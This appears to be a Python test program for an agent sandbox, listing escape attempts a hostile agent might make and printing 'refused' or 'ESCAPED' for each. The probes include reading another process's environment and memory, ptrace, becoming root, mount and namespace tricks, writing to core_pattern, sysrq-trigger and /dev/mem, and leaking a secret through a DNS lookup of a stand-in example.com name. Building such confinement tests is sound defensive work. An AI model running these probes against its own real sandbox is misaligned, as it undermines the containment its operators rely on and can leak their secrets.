"""Attempts of a hostile agent, as a program for the sandbox: prints for each whether it got through.

Run by test_escapes.py, inside and, as the control, outside. No attempt does harm where it succeeds.
"""

import ctypes
import json
import os
import socket
import stat
import sys
from collections.abc import Callable
from pathlib import Path

ATTEMPTS: dict[str, Callable[[dict[str, str]], object]] = {}
# An ordinary process outside may do these, which shows that the attempt itself is sound.
SOUND_OUTSIDE = (
    "environment of the service",
    "any environment",
    "file of another run",
    "folder of all runs",
    "hidden folder",
    "loopback port",
    "own address of the machine",
    "abstract socket",
    "socket file",
    "signal",
)
_PTRACE_SEIZE, _PTRACE_DETACH = 0x4206, 17
_CLONE_NEWUSER = 0x10000000
_LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(name: str) -> Callable[[Callable[[dict[str, str]], object]], None]:
    def register(function: Callable[[dict[str, str]], object]) -> None:
        ATTEMPTS[name] = function

    return register


def call(code: int) -> None:
    if code < 0:
        raise OSError(ctypes.get_errno(), "refused")


def require(found: object) -> None:
    if not found:
        raise LookupError


def ask(family: socket.AddressFamily, address: tuple[str, int] | str) -> None:
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
        require(client.recv(9) == b"hello")


@attempt("environment of the service")
def _(world: dict[str, str]) -> None:
    require(world["secret"].encode() in Path(f"/proc/{world['pid']}/environ").read_bytes())


@attempt("any environment")
def _(world: dict[str, str]) -> None:
    for place in Path("/proc").glob("[0-9]*/environ"):
        try:
            content = place.read_bytes()
        except OSError:
            continue
        if world["secret"].encode() in content:
            return
    raise LookupError


@attempt("memory of the service")
def _(world: dict[str, str]) -> None:
    os.close(os.open(f"/proc/{world['pid']}/mem", os.O_RDWR))


@attempt("root folder of the service")
def _(world: dict[str, str]) -> None:
    require(list(Path(f"/proc/{world['pid']}/root").iterdir()))


@attempt("file of another run")
def _(world: dict[str, str]) -> None:
    require(world["secret"] in Path(world["file"]).read_text())


@attempt("folder of all runs")
def _(world: dict[str, str]) -> None:
    require("other" in [path.name for path in Path(world["file"]).parents[2].iterdir()])


@attempt("hidden folder")
def _(world: dict[str, str]) -> None:
    require(world["secret"] in (Path(world["hidden"]) / "dev.json").read_text())


@attempt("loopback port")
def _(world: dict[str, str]) -> None:
    ask(socket.AF_INET, ("127.0.0.1", int(world["port"])))


@attempt("own address of the machine")
def _(world: dict[str, str]) -> None:
    ask(socket.AF_INET, ("0.0.0.0", int(world["port"])))  # noqa: S104 - connects to it


@attempt("abstract socket")
def _(world: dict[str, str]) -> None:
    ask(socket.AF_UNIX, "\0" + world["abstract"])


@attempt("socket file")
def _(world: dict[str, str]) -> None:
    ask(socket.AF_UNIX, world["socket"])


@attempt("signal")
def _(world: dict[str, str]) -> None:
    os.kill(int(world["pid"]), 0)


@attempt("ptrace")
def _(world: dict[str, str]) -> None:
    call(_LIBC.ptrace(_PTRACE_SEIZE, int(world["pid"]), None, None))
    _LIBC.ptrace(_PTRACE_DETACH, int(world["pid"]), None, None)


@attempt("name look-up")
def _(world: dict[str, str]) -> None:
    require(socket.getaddrinfo(f"{world['secret']}.example.com", 80))


@attempt("datagram to a public address")
def _(_world: dict[str, str]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"x", ("192.0.2.1", 53))


@attempt("raw socket")
def _(_world: dict[str, str]) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attempt("become root")
def _(_world: dict[str, str]) -> None:
    os.setresuid(0, 0, 0)


@attempt("mount")
def _(_world: dict[str, str]) -> None:
    call(_LIBC.mount(b"none", str(Path.cwd()).encode(), b"tmpfs", 0, None))


@attempt("unmount")
def _(_world: dict[str, str]) -> None:
    call(_LIBC.umount2(b"/proc", 2))


@attempt("another user namespace")
def _(_world: dict[str, str]) -> None:
    call(_LIBC.unshare(_CLONE_NEWUSER))


@attempt("namespace of the service")
def _(world: dict[str, str]) -> None:
    call(_LIBC.setns(os.open(f"/proc/{world['pid']}/ns/net", os.O_RDONLY), 0))


@attempt("change of root")
def _(_world: dict[str, str]) -> None:
    os.chroot(Path.cwd())


@attempt("device")
def _(_world: dict[str, str]) -> None:
    os.mknod("device", stat.S_IFBLK | 0o600, os.makedev(7, 0))


@attempt("setuid file that counts")
def _(_world: dict[str, str]) -> None:
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    free = status["NoNewPrivs"].strip() != "1"
    require(free or any(int(status[name], 16) for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb")))


for _path in (
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
    "/proc/sys/kernel/modprobe",
    "/dev/mem",
):

    @attempt(f"open {_path}")
    def _(_world: dict[str, str], path: str = _path) -> None:
        os.close(os.open(path, os.O_WRONLY))


for _path in ("/usr/escaped", "/etc/escaped", "/escaped", "/run/escaped", "/dev/escaped"):

    @attempt(f"write {_path}")
    def _(_world: dict[str, str], path: str = _path) -> None:
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT))


@attempt("open descriptor of the service")
def _(_world: dict[str, str]) -> None:
    names = [str(path.readlink()) for path in Path("/proc/self/fd").iterdir() if path.exists()]
    require([name for name in names if not name.startswith(("/dev/null", "/proc/", "pipe:"))])


def main() -> None:
    world = json.loads(sys.argv[1])
    for name in SOUND_OUTSIDE if sys.argv[2:] == ["sound"] else ATTEMPTS:
        try:
            ATTEMPTS[name](world)
        except (OSError, LookupError) as error:
            sys.stdout.write(f"{name}: refused ({type(error).__name__})\n")
        else:
            sys.stdout.write(f"{name}: ESCAPED\n")


if __name__ == "__main__":
    main()
